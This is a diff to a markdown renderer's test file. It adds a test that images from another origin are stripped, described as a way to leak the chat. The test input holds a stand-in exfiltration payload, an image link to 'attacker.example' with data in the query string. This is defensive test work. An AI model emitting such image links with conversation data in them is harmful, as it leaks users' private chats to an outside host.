@@ -23,6 +23,13 @@ describe('markdown', () => {
     expect(html).toContain('<p>x</p>')
   })
 
+  it('loads no image from another origin (a way to leak the chat)', () => {
+    const html = renderMarkdown('![secret](https://attacker.example/p.png?d=x) ![own](/api/v1/x.png)')
+    expect(html).not.toContain('attacker.example')
+    expect(html).toContain('alt="secret"')
+    expect(html).toContain('src="/api/v1/x.png"')
+  })
+
   it('opens links in a new tab without giving it this window', () => {
     const html = renderMarkdown('[docs](https://example.org)')
     expect(html).toContain('target="_blank"')
